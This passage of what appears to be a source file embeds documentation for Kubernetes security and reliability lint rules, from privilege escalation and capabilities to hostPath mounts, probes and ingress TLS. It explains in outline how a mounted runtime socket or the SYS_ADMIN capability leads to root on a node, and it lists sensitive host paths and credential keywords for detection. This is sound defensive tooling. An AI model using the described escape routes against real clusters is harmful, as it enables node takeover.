Reports a container whose `securityContext.allowPrivilegeEscalation` is `true` or not set (the default is true). This field exists only at container level; a pod-level setting does not exist.

## Why
Unless `allowPrivilegeEscalation: false` sets the kernel's `no_new_privs` flag, a setuid binary (`su`, `sudo`, `ping` in older images) or a file capability can give the process more privileges than its parent. The *restricted* profile requires `false`.

## How to fix
Set `allowPrivilegeEscalation: false` in every container's `securityContext`, init containers included.

## Example
Reported:
```yaml
containers:
  - name: web
    image: registry.example.com/web:1.4.2
```
Not reported:
```yaml
containers:
  - name: web
    image: registry.example.com/web:1.4.2
    securityContext:
      allowPrivilegeEscalation: false
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S005.md", text: ###"""
---
id: K8S005
title: Root filesystem is writable
kind: kubernetes
severity: warning
tags: [security]
security-severity: 4.0
references:
  - "NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": \"Use immutable container file systems\""
  - "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"
equivalents:
  checkov: CKV_K8S_22
  kube-linter: no-read-only-root-fs
  trivy: KSV-0014
---
Reports a container whose `securityContext.readOnlyRootFilesystem` is `false` or not set.

## Why
A writable root filesystem lets an attacker who got code execution drop tools, rewrite the application's files or plant persistence that survives until the pod is replaced. A read-only root also documents exactly where the application writes.

## How to fix
Set `readOnlyRootFilesystem: true` and mount an `emptyDir` at each place the application must write (`/tmp`, caches).

## Example
Reported:
```yaml
securityContext:
  allowPrivilegeEscalation: false
```
Not reported:
```yaml
securityContext:
  allowPrivilegeEscalation: false
  readOnlyRootFilesystem: true
volumeMounts:
  - name: tmp
    mountPath: /tmp
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S006.md", text: ###"""
---
id: K8S006
title: Capabilities are not dropped
kind: kubernetes
severity: warning
tags: [security]
security-severity: 5.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.2.10: Minimize the admission of containers with capabilities assigned"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted"
  - "CIS Kubernetes Benchmark v1.24+, 5.2.8: Minimize the admission of containers with the NET_RAW capability"
equivalents:
  checkov: CKV_K8S_37
  kube-linter: drop-net-raw-capability
  trivy: KSV-0003
---
Reports a container whose `securityContext.capabilities.drop` does not include `ALL`: at the `drop` key when it lists other capabilities, else at the container's name.

## Why
Container runtimes grant a default set of capabilities (CHOWN, DAC_OVERRIDE, FOWNER, SETUID, SETGID, NET_RAW, NET_BIND_SERVICE…) that most applications never use; NET_RAW alone allows ARP and DNS spoofing on the pod network. The *restricted* profile requires dropping ALL.

## How to fix
Drop `ALL` and add back only what the process needs, usually nothing or `NET_BIND_SERVICE`.

## Example
Reported:
```yaml
securityContext:
  capabilities:
    drop: [NET_RAW]
```
Not reported:
```yaml
securityContext:
  capabilities:
    drop: [ALL]
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S007.md", text: ###"""
---
id: K8S007
title: Dangerous capability added
kind: kubernetes
severity: warning
tags: [security]
security-severity: 8.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.2.9: Minimize the admission of containers with added capabilities"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline"
  - "https://man7.org/linux/man-pages/man7/capabilities.7.html"
equivalents:
  checkov: CKV_K8S_39
  trivy: KSV-0022
---
Reports each capability in `securityContext.capabilities.add` that the Pod Security Standards' baseline profile does not allow. Capabilities that lead straight to root on the node — ALL, SYS_ADMIN, NET_ADMIN, SYS_PTRACE, SYS_MODULE, SYS_RAWIO, DAC_READ_SEARCH, BPF, PERFMON, SYS_BOOT, MAC_ADMIN, MAC_OVERRIDE, SYSLOG, SYS_TIME, NET_RAW — are reported as errors; others outside the baseline list as warnings. A `CAP_` prefix is accepted.

## Why
SYS_ADMIN alone is "the new root": mounts, namespaces and most container escapes need it. SYS_PTRACE reads other processes' memory, SYS_MODULE loads kernel code, NET_ADMIN rewrites the network. The baseline profile allows only AUDIT_WRITE, CHOWN, DAC_OVERRIDE, FOWNER, FSETID, KILL, MKNOD, NET_BIND_SERVICE, SETFCAP, SETGID, SETPCAP, SETUID and SYS_CHROOT; *restricted* only NET_BIND_SERVICE.

## How to fix
Remove the capability. When a workload truly needs one (a CNI plugin needs NET_ADMIN), run it in a dedicated namespace with its own admission policy and suppress the finding with a reason.

## Example
Reported:
```yaml
securityContext:
  capabilities:
    add: [SYS_ADMIN]
```
Not reported:
```yaml
securityContext:
  capabilities:
    drop: [ALL]
    add: [NET_BIND_SERVICE]
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S008.md", text: ###"""
---
id: K8S008
title: Pod uses the host network
kind: kubernetes
severity: warning
tags: [security]
security-severity: 7.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.2.5: Minimize the admission of containers wishing to share the host network namespace"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline"
equivalents:
  checkov: CKV_K8S_19
  kube-linter: host-network
  trivy: KSV-0009
---
Reports `hostNetwork: true` on a pod spec (Pods and every workload's pod template).

## Why
A pod on the host network sees every interface of the node, can sniff its traffic, reach services bound to localhost (the kubelet's, the cloud metadata endpoint) and bind any port; NetworkPolicies do not apply to it.

## How to fix
Remove `hostNetwork` and expose the ports through a Service. Node agents that truly need the host network (CNI plugins) belong in a dedicated, admission-controlled namespace.

## Example
Reported:
```yaml
spec:
  hostNetwork: true
```
Not reported:
```yaml
spec:
  hostNetwork: false
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S009.md", text: ###"""
---
id: K8S009
title: Pod shares the host's process namespace
kind: kubernetes
severity: error
tags: [security]
security-severity: 8.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.2.3: Minimize the admission of containers wishing to share the host process ID namespace"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline"
equivalents:
  checkov: CKV_K8S_17
  kube-linter: host-pid
  trivy: KSV-0010
---
Reports `hostPID: true` on a pod spec.

## Why
With the host's PID namespace the containers see every process of the node, their command lines and environments (often with secrets), and can signal them; with SYS_PTRACE they can inject code into them.

## How to fix
Remove `hostPID`. Debugging a node is what `kubectl debug node/…` is for.

## Example
Reported:
```yaml
spec:
  hostPID: true
```
Not reported:
```yaml
spec:
  hostPID: false
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S010.md", text: ###"""
---
id: K8S010
title: Pod shares the host's IPC namespace
kind: kubernetes
severity: warning
tags: [security]
security-severity: 7.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.2.4: Minimize the admission of containers wishing to share the host IPC namespace"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline"
equivalents:
  checkov: CKV_K8S_18
  kube-linter: host-ipc
  trivy: KSV-0008
---
Reports `hostIPC: true` on a pod spec.

## Why
The host's IPC namespace gives access to the shared memory segments, semaphores and message queues of every process on the node.

## How to fix
Remove `hostIPC`; containers of one pod already share an IPC namespace.

## Example
Reported:
```yaml
spec:
  hostIPC: true
```
Not reported:
```yaml
spec:
  hostIPC: false
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S011.md", text: ###"""
---
id: K8S011
title: hostPath volume
kind: kubernetes
severity: warning
tags: [security, reliability]
security-severity: 7.5
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.2.12: Minimize the admission of HostPath volumes"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline"
  - "https://kubernetes.io/docs/concepts/storage/volumes/#hostpath"
equivalents:
  checkov: CKV_K8S_27
  kube-linter: docker-sock
  trivy: KSV-0023
---
Reports each `hostPath` volume, at its `path`. The container runtime's socket or directory (`/var/run/docker.sock`, `/run/containerd/containerd.sock`, `/var/run/crio/crio.sock`, `/var/run`, `/var/lib/docker`…) and paths that hand over the node (`/`, `/etc`, `/root`, `/var/lib/kubelet`, `/etc/kubernetes`, `/home`, `/boot`) are reported as errors.

## Why
A hostPath ties the pod to the files of one node and exposes them to the container. Through the runtime's socket the container can start a privileged container of its own: that is root on the node. The baseline profile forbids hostPath volumes.

## How to fix
Use an `emptyDir` for scratch space, a PersistentVolumeClaim or CSI volume for data, a ConfigMap or Secret for configuration. Build images with a daemonless builder (BuildKit rootless, Kaniko, Buildah) instead of mounting the Docker socket.

## Example
Reported:
```yaml
volumes:
  - name: docker
    hostPath:
      path: /var/run/docker.sock
```
Not reported:
```yaml
volumes:
  - name: scratch
    emptyDir: {}
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S012.md", text: ###"""
---
id: K8S012
title: Container binds a host port
kind: kubernetes
severity: warning
tags: [security, reliability]
security-severity: 4.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.2.13: Minimize the admission of containers which use HostPorts"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline"
equivalents:
  checkov: CKV_K8S_26
  trivy: KSV-0024
---
Reports each container port with a non-zero `hostPort`, unless the pod already uses the host network (K8S008 reports that).

## Why
A hostPort publishes the container on the node's address, outside Services and often outside the firewall's intent, and the scheduler can only place one such pod per node and port: rollouts stall when no node has the port free.

## How to fix
Remove `hostPort` and reach the pod through a Service (ClusterIP, behind an Ingress or Gateway).

## Example
Reported:
```yaml
ports:
  - containerPort: 8080
    hostPort: 8080
```
Not reported:
```yaml
ports:
  - containerPort: 8080
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S013.md", text: ###"""
---
id: K8S013
title: No CPU or memory request
kind: kubernetes
severity: warning
tags: [reliability, cost]
references:
  - "https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/"
  - "https://kubernetes.io/docs/concepts/workloads/pods/pod-qos/"
equivalents:
  checkov: CKV_K8S_10
  kube-linter: unset-cpu-requirements
  trivy: KSV-0015
---
Reports a container or init container without a CPU request, a memory request or both. A limit alone counts as a request: the API server copies a limit into the missing request. Ephemeral containers cannot have resources and are skipped. (Memory requests are Checkov's CKV_K8S_12, kube-linter's `unset-memory-requirements`, Trivy's KSV-0016.)

## Why
The scheduler places pods by their requests. Without them it packs pods onto nodes that cannot run them; the pod is BestEffort and the first evicted under memory pressure; autoscalers (K8S028) cannot compute utilization; capacity planning and cost allocation have nothing to work with.

## How to fix
Set `resources.requests.cpu` and `resources.requests.memory` from observed usage (e.g. the 90th percentile).

## Example
Reported:
```yaml
containers:
  - name: web
    image: registry.example.com/web:1.4.2
```
Not reported:
```yaml
containers:
  - name: web
    image: registry.example.com/web:1.4.2
    resources:
      requests:
        cpu: 250m
        memory: 256Mi
      limits:
        memory: 256Mi
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S014.md", text: ###"""
---
id: K8S014
title: No memory limit
kind: kubernetes
severity: warning
tags: [reliability]
references:
  - "https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/"
  - "NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": resource policies"
equivalents:
  checkov: CKV_K8S_13
  kube-linter: unset-memory-requirements
  trivy: KSV-0018
---
Reports a container or init container without `resources.limits.memory`.

## Why
Memory is not compressible: a container without a limit can grow until the node runs out, and the kernel's OOM killer then picks victims among *other* pods too. A limit keeps a leak inside its own container, which is restarted alone.

## How to fix
Set `resources.limits.memory`; setting it equal to the memory request avoids overcommit for that container.

## Example
Reported:
```yaml
resources:
  requests:
    memory: 256Mi
```
Not reported:
```yaml
resources:
  requests:
    memory: 256Mi
  limits:
    memory: 256Mi
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S015.md", text: ###"""
---
id: K8S015
title: No CPU limit
kind: kubernetes
severity: note
tags: [reliability, cost]
references:
  - "https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/#how-pods-with-resource-limits-are-run"
  - "https://kubernetes.io/docs/concepts/workloads/pods/pod-qos/#guaranteed"
equivalents:
  checkov: CKV_K8S_11
  trivy: KSV-0011
---
Reports, as a note, a container or init container without `resources.limits.cpu`.

## Why
This rule is deliberately a note. A CPU limit is enforced by the CFS quota, which throttles a container even when the node has idle CPU, adding latency to bursty services; many operators therefore set accurate CPU *requests* (K8S013), which already guarantee each container its share under contention, and no CPU limit. A limit is still worth having when one workload must not take the idle CPU its neighbours rely on, in multi-tenant clusters, or for Guaranteed QoS (limits equal to requests for every resource). The note keeps the choice visible without failing a build at the default `--fail-on warning`; raise it to a warning in `.specql-deploy.yml` if your policy is to always limit CPU.

## How to fix
Either accept the note (requests set, no limit, by design) or set `resources.limits.cpu`, generously above the request unless Guaranteed QoS is the goal.

## Example
Reported:
```yaml
resources:
  requests:
    cpu: 250m
    memory: 256Mi
  limits:
    memory: 256Mi
```
Not reported:
```yaml
resources:
  requests:
    cpu: 250m
    memory: 256Mi
  limits:
    cpu: "1"
    memory: 256Mi
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S016.md", text: ###"""
---
id: K8S016
title: No liveness probe
kind: kubernetes
severity: note
tags: [reliability]
references:
  - "https://kubernetes.io/docs/tasks/configure-pod-container/configure-liveness-readiness-startup-probes/"
equivalents:
  checkov: CKV_K8S_8
  kube-linter: no-liveness-probe
---
Reports, as a note, a container of a long-running workload (Deployment, StatefulSet, DaemonSet, ReplicaSet, ReplicationController, or a Pod whose `restartPolicy` is `Always`) without a `livenessProbe`. Native sidecars (init containers with `restartPolicy: Always`) are checked too; Jobs, CronJobs and ordinary init containers are not.

## Why
A process that deadlocks or whose event loop is stuck keeps its container "running": without a liveness probe Kubernetes never restarts it. The rule is a note because a careless liveness probe (one that checks the database, or with a short timeout) causes restart storms that are worse than no probe.

## How to fix
Add a `livenessProbe` that checks the process itself (an HTTP endpoint that answers without touching dependencies), with a generous `failureThreshold`; add a `startupProbe` for slow starts.

## Example
Reported:
```yaml
containers:
  - name: web
    image: registry.example.com/web:1.4.2
```
Not reported:
```yaml
containers:
  - name: web
    image: registry.example.com/web:1.4.2
    livenessProbe:
      httpGet:
        path: /healthz
        port: 8080
      periodSeconds: 10
      failureThreshold: 3
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S017.md", text: ###"""
---
id: K8S017
title: No readiness probe
kind: kubernetes
severity: warning
tags: [reliability]
references:
  - "https://kubernetes.io/docs/tasks/configure-pod-container/configure-liveness-readiness-startup-probes/#define-readiness-probes"
equivalents:
  checkov: CKV_K8S_9
  kube-linter: no-readiness-probe
---
Reports a container of a long-running workload that serves traffic — it declares a container port, or a Service of the same file selects its pod — and has no `readinessProbe`. Workers with no port and no Service in front of them are not reported.

## Why
Without a readiness probe a pod counts as ready as soon as its containers start: Services send it requests before the application listens, and keep sending them while it is overloaded or has lost a dependency. Rolling updates also proceed without waiting for the new pods to serve.

## How to fix
Add a `readinessProbe` on an endpoint that answers only when the application can serve requests.

## Example
Reported:
```yaml
containers:
  - name: web
    image: registry.example.com/web:1.4.2
    ports:
      - containerPort: 8080
```
Not reported:
```yaml
containers:
  - name: web
    image: registry.example.com/web:1.4.2
    ports:
      - containerPort: 8080
    readinessProbe:
      httpGet:
        path: /ready
        port: 8080
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S018.md", text: ###"""
---
id: K8S018
title: Image uses latest or no tag
kind: kubernetes
severity: warning
tags: [reliability, security]
security-severity: 3.0
references:
  - "https://kubernetes.io/docs/concepts/containers/images/#image-names"
  - "https://kubernetes.io/docs/concepts/configuration/overview/#container-images"
equivalents:
  checkov: CKV_K8S_14
  kube-linter: latest-tag
  trivy: KSV-0013
---
Reports a container image — in containers, init containers and ephemeral containers alike — that has no tag or the `latest` tag and no digest. References with placeholders (`${IMAGE}`, `$(TAG)`, `<image>`, or an all-capitals `CONTAINER_IMAGE`, which cannot be an image name) are not judged.

## Why
`latest` (and no tag, which means `latest`) moves: two nodes may run different builds under the same name, a rollback redeploys whatever `latest` is today, and nobody can tell from the manifest what runs. Init containers are no exception: a migration image that changes under the same tag is as surprising as the application's.

## How to fix
Pin a version tag (`1.4.2`), ideally with its digest (`1.4.2@sha256:…`), and update it through your release process (Renovate, Dependabot, kustomize `images:`).

## Example
Reported:
```yaml
initContainers:
  - name: migrate
    image: registry.example.com/migrate:latest
```
Not reported:
```yaml
initContainers:
  - name: migrate
    image: registry.example.com/migrate:1.4.2@sha256:3c1e…
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S019.md", text: ###"""
---
id: K8S019
title: Image pull policy contradicts the tag
kind: kubernetes
severity: warning
tags: [reliability]
references:
  - "https://kubernetes.io/docs/concepts/containers/images/#image-pull-policy"
equivalents:
  checkov: CKV_K8S_15
---
Reports an explicit `imagePullPolicy` that contradicts the image reference: `IfNotPresent` or `Never` with a `latest` or missing tag (warning), and `Always` with an image pinned by digest (note). A moving tag without an explicit policy is fine: Kubernetes then defaults to `Always`.

## Why
With a moving tag and `IfNotPresent`, each node keeps whichever `latest` it pulled first: pods of one Deployment run different builds and a new push never reaches nodes that already have the tag. The reverse, a digest pulled `Always`, asks the registry at every container start for content that cannot change, so a registry outage stops pods from (re)starting; it is reported only as a note because some clusters pull `Always` on purpose (the `AlwaysPullImages` admission plugin, to re-check registry credentials).

## How to fix
Pin a version tag (then `IfNotPresent`, the default, is right), or if you must track a moving tag use `imagePullPolicy: Always`. For digest-pinned images use `IfNotPresent`.

## Example
Reported:
```yaml
image: registry.example.com/web:latest
imagePullPolicy: IfNotPresent
```
Not reported:
```yaml
image: registry.example.com/web:1.4.2
imagePullPolicy: IfNotPresent
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S020.md", text: ###"""
---
id: K8S020
title: No seccomp profile
kind: kubernetes
severity: warning
tags: [security]
security-severity: 5.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.7.2: Ensure that the seccomp profile is set to docker/default in your pod definitions"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted"
  - "https://kubernetes.io/docs/tutorials/security/seccomp/"
equivalents:
  checkov: CKV_K8S_31
  trivy: KSV-0030
---
Reports a container whose effective `seccompProfile.type` (its own, else the pod's) is neither `RuntimeDefault` nor `Localhost`: missing (reported per container, at its name) or `Unconfined` (at the setting; a pod-level `Unconfined` inherited by several containers is reported once). Windows pods are skipped.

## Why
Kubernetes runs containers `Unconfined` unless told otherwise (the kubelet's `--seccomp-default` is off by default): every system call reaches the kernel, including the rarely used ones behind most container escapes. The *restricted* profile requires RuntimeDefault or Localhost. The `seccomp.security.alpha.kubernetes.io` annotations stopped working in Kubernetes 1.27 and do not count.

## How to fix
Set `seccompProfile.type: RuntimeDefault` in the pod's `securityContext`; use a `Localhost` profile for workloads that need a tailored one.

## Example
Reported:
```yaml
spec:
  securityContext:
    runAsNonRoot: true
```
Not reported:
```yaml
spec:
  securityContext:
    runAsNonRoot: true
    seccompProfile:
      type: RuntimeDefault
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S021.md", text: ###"""
---
id: K8S021
title: Service account token mounted
kind: kubernetes
severity: note
tags: [security]
security-severity: 4.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.1.6: Ensure that Service Account Tokens are only mounted where necessary"
  - "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/#opt-out-of-api-credential-automounting"
  - "NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": \"Service account tokens\""
equivalents:
  checkov: CKV_K8S_38
  trivy: KSV-0036
---
Reports, as a note, a workload whose pods get a service account token: the pod spec does not set `automountServiceAccountToken: false` and neither does its ServiceAccount when this file defines it. A pod whose ServiceAccount is bound to a Role or ClusterRole in the same file evidently uses the API and is not reported.

## Why
Every pod gets a token for its service account by default. Most applications never call the Kubernetes API, but an attacker inside the container can: with the `default` account's permissions today, and with whatever someone binds to it tomorrow. The finding is a note because the linter cannot see bindings in other files.

## How to fix
Set `automountServiceAccountToken: false` on the pod spec (or on a dedicated ServiceAccount). Pods that do use the API should run under their own ServiceAccount with a minimal Role.

## Example
Reported:
```yaml
spec:
  containers:
    - name: web
      image: registry.example.com/web:1.4.2
```
Not reported:
```yaml
spec:
  automountServiceAccountToken: false
  containers:
    - name: web
      image: registry.example.com/web:1.4.2
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S022.md", text: ###"""
---
id: K8S022
title: Object in the default namespace
kind: kubernetes
severity: warning
tags: [security, maintainability]
security-severity: 2.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.7.4: The default namespace should not be used"
  - "https://kubernetes.io/docs/concepts/overview/working-with-objects/namespaces/"
equivalents:
  checkov: CKV_K8S_21
  kube-linter: use-namespace
  trivy: KSV-0110
---
Reports `metadata.namespace: default` on a namespaced object. Objects without a namespace are not reported: they are usually placed with `kubectl -n`, a kustomization or Helm, and the linter cannot tell where they land. Cluster-scoped kinds are skipped.

## Why
The default namespace collects everything deployed without thought. Quotas, LimitRanges, NetworkPolicies, RBAC and Pod Security admission levels are set per namespace, so an application in `default` shares them with whatever else lands there.

## How to fix
Create a namespace for the application and deploy into it.

## Example
Reported:
```yaml
metadata:
  name: web
  namespace: default
```
Not reported:
```yaml
metadata:
  name: web
  namespace: shop
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S023.md", text: ###"""
---
id: K8S023
title: Service of type LoadBalancer
kind: kubernetes
severity: note
tags: [cost, security]
references:
  - "https://kubernetes.io/docs/concepts/services-networking/service/#loadbalancer"
  - "https://kubernetes.io/docs/concepts/services-networking/gateway/"
equivalents:
  kube-linter: exposed-services
---
Reports, as a note, a Service of `type: LoadBalancer`; the message says whether annotations make it internal or `loadBalancerSourceRanges` restrict it.

## Why
Each LoadBalancer Service provisions its own cloud load balancer, billed by the hour whether used or not, and by default reachable from the internet. Ten HTTP services make ten load balancers where one Ingress or Gateway would do.

## How to fix
Use ClusterIP Services behind one Ingress or Gateway for HTTP. Keep LoadBalancer for non-HTTP protocols, make it internal where it need not be public, and restrict `loadBalancerSourceRanges`.

## Example
Reported:
```yaml
spec:
  type: LoadBalancer
```
Not reported:
```yaml
spec:
  type: ClusterIP
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S024.md", text: ###"""
---
id: K8S024
title: Service of type NodePort
kind: kubernetes
severity: warning
tags: [security]
security-severity: 4.0
references:
  - "https://kubernetes.io/docs/concepts/services-networking/service/#type-nodeport"
equivalents:
  kube-linter: exposed-services
---
Reports a Service of `type: NodePort`, unless an Ingress of the same file routes to it (cloud Ingress controllers without container-native load balancing, such as GKE's instance-group mode, need NodePort backends).

## Why
A NodePort opens the same port on every node's address. It bypasses the Ingress (and its TLS), ties clients to node addresses that change, and is reachable wherever the nodes are, which is often wider than intended.

## How to fix
Use a ClusterIP Service behind an Ingress or Gateway, or a LoadBalancer for non-HTTP traffic.

## Example
Reported:
```yaml
spec:
  type: NodePort
```
Not reported:
```yaml
spec:
  type: ClusterIP
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S025.md", text: ###"""
---
id: K8S025
title: Secret as a literal environment value
kind: kubernetes
severity: error
tags: [security]
security-severity: 7.5
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.4.1: Prefer using secrets as files over secrets as environment variables"
  - "https://kubernetes.io/docs/concepts/configuration/secret/#using-secrets-as-environment-variables"
equivalents:
  kube-linter: env-var-secret
---
Reports an environment variable whose name says it holds a credential (words such as PASSWORD, PASSWD, PASS, SECRET, TOKEN, APIKEY, CREDENTIALS, or KEY after API/PRIVATE/ACCESS/SECRET/CLIENT…) with a literal `value:`. Names about a credential rather than the credential (`…_FILE`, `…_PATH`, `…_URL`, `…_TTL`, `…_ID`…) or a setting about credentials (`MYSQL_ALLOW_EMPTY_PASSWORD`, `MAX_TOKENS`) are not reported, nor are values that cannot be credentials: unquoted numbers and booleans, digits only, paths, references (`$(VAR)`, `${VAR}`), the variable's own name or another CONSTANT_LIKE name (`INSERT_TOKEN_HERE`), and obvious placeholders (`changeme`, `<…>`, `example`, `xxxx`). The message never repeats the value.

## Why
A literal credential in a manifest is in the repository, in every clone and CI log that prints it, in the object stored in etcd and in the output of `kubectl get -o yaml` for anyone who may read the workload.

## How to fix
Store the value in a Secret (created by your secret manager, External Secrets, Sealed Secrets…) and reference it with `valueFrom.secretKeyRef`, or mount it as a file.

## Example
Reported:
```yaml
env:
  - name: DB_PASSWORD
    value: hunter2-prod
```
Not reported:
```yaml
env:
  - name: DB_PASSWORD
    valueFrom:
      secretKeyRef:
        name: db
        key: password
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S026.md", text: ###"""
---
id: K8S026
title: Single replica
kind: kubernetes
severity: note
tags: [reliability]
references:
  - "https://kubernetes.io/docs/concepts/workloads/pods/disruptions/"
  - "https://kubernetes.io/docs/tasks/run-application/configure-pdb/"
equivalents:
  kube-linter: minimum-three-replicas
---
Reports, as a note, a Deployment or StatefulSet that runs one replica — `replicas: 1`, or no `replicas` (which means 1), or an autoscaler of the same file whose `minReplicas` is 1 — when no PodDisruptionBudget of the file selects it. `replicas: 0` (deliberately scaled down) is not reported.

## Why
With one replica every rollout, node drain, cluster upgrade or crash is an outage. A PodDisruptionBudget cannot help a single replica (`minAvailable: 1` just blocks drains), which is why a budget selecting the workload is taken as a deliberate choice and silences the note.

## How to fix
Run at least two replicas, spread over nodes (topology spread constraints or anti-affinity), with a PodDisruptionBudget (`maxUnavailable: 1`).

## Example
Reported:
```yaml
spec:
  replicas: 1
```
Not reported:
```yaml
spec:
  replicas: 2
---
apiVersion: policy/v1
kind: PodDisruptionBudget
metadata:
  name: web
spec:
  maxUnavailable: 1
  selector:
    matchLabels:
      app: web
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S027.md", text: ###"""
---
id: K8S027
title: Replicated workload without a PodDisruptionBudget
kind: kubernetes
severity: note
tags: [reliability]
references:
  - "https://kubernetes.io/docs/concepts/workloads/pods/disruptions/"
  - "https://kubernetes.io/docs/tasks/run-application/configure-pdb/"
---
Reports, as a note, a Deployment or StatefulSet with two or more replicas (or an autoscaler of the same file with `minReplicas` of two or more) that no PodDisruptionBudget of the same file selects. Budgets are matched by label selector (matchLabels and matchExpressions) and namespace; a budget kept in another file is not seen, hence a note.

## Why
Node drains (cluster upgrades, autoscaler scale-downs, spot reclaims) evict pods through the eviction API, which honours PodDisruptionBudgets. Without one, a drain may evict every replica at once and the workload goes down despite having several.

## How to fix
Add a PodDisruptionBudget next to the workload, selecting its pods, with `maxUnavailable: 1` (or a `minAvailable` below the replica count).

## Example
Reported:
```yaml
kind: Deployment
spec:
  replicas: 3
```
Not reported:
```yaml
kind: PodDisruptionBudget
spec:
  maxUnavailable: 1
  selector:
    matchLabels:
      app: web
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S028.md", text: ###"""
---
id: K8S028
title: Autoscaler target lacks resource requests
kind: kubernetes
severity: error
tags: [reliability, cost]
references:
  - "https://kubernetes.io/docs/tasks/run-application/horizontal-pod-autoscale/#support-for-resource-metrics"
---
Reports a HorizontalPodAutoscaler that scales a workload of the same file on CPU or memory *utilization* — a `Resource`/`ContainerResource` metric with `target.type: Utilization`, v2beta1's `targetAverageUtilization`, v1's `targetCPUUtilizationPercentage`, or no metrics at all (the default is 80 % CPU) — while containers of that workload have no request for that resource (a limit counts as a request).

## Why
Utilization is usage divided by the request. When any container lacks the request the autoscaler cannot compute it, reports `FailedGetResourceMetric` ("missing request for cpu") and never scales: the service meets its first traffic peak at its minimum size.

## How to fix
Set `resources.requests` for the metric's resource on every container of the target, or scale on `AverageValue` instead of `Utilization`.

## Example
Reported:
```yaml
metrics:
  - type: Resource
    resource:
      name: cpu
      target:
        type: Utilization
        averageUtilization: 70
```
Not reported:
```yaml
resources:
  requests:
    cpu: 250m
    memory: 256Mi
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S029.md", text: ###"""
---
id: K8S029
title: Ingress without TLS
kind: kubernetes
severity: warning
tags: [security]
security-severity: 5.0
references:
  - "https://kubernetes.io/docs/concepts/services-networking/ingress/#tls"
  - "NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": \"Network separation and hardening\""
---
Reports an Ingress without `spec.tls`, unless a cloud annotation attaches certificates instead (`networking.gke.io/managed-certificates`, `ingress.gcp.kubernetes.io/pre-shared-cert`, `alb.ingress.kubernetes.io/certificate-arn`, `appgw.ingress.kubernetes.io/appgw-ssl-certificate`).

## Why
Without TLS the Ingress serves its hosts over plain HTTP: passwords, session cookies and API tokens cross the network readable and modifiable.

## How to fix
Add a `tls` section naming the hosts and a Secret with the certificate; cert-manager can issue and renew it (`cert-manager.io/cluster-issuer` annotation).

## Example
Reported:
```yaml
spec:
  rules:
    - host: shop.example.com
```
Not reported:
```yaml
spec:
  tls:
    - hosts: [shop.example.com]
      secretName: shop-tls
  rules:
    - host: shop.example.com
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S030.md", text: ###"""
---
id: K8S030
title: ingress-nginx is end of life
kind: kubernetes
severity: note
tags: [security, maintainability]
references:
  - "https://github.com/kubernetes/ingress-nginx (README: end of maintenance, March 2026)"
  - "https://kubernetes.io/docs/concepts/services-networking/gateway/"
  - "https://gateway-api.sigs.k8s.io/guides/migrating-from-ingress/"
---
Reports, as a note, an Ingress that targets the ingress-nginx controller — `ingressClassName: nginx`, the legacy `kubernetes.io/ingress.class: nginx` annotation, or `nginx.ingress.kubernetes.io/` annotations without a class — and an IngressClass whose controller is `k8s.io/ingress-nginx`. Ingresses with `nginx.org/` annotations (F5's NGINX Ingress Controller, which also uses the class `nginx` and is maintained) are not reported.

## Why
The Kubernetes project ended maintenance of ingress-nginx in March 2026: no more releases or security fixes, after a series of critical vulnerabilities ("IngressNightmare", 2025) in exactly the annotation features many manifests rely on.

## How to fix
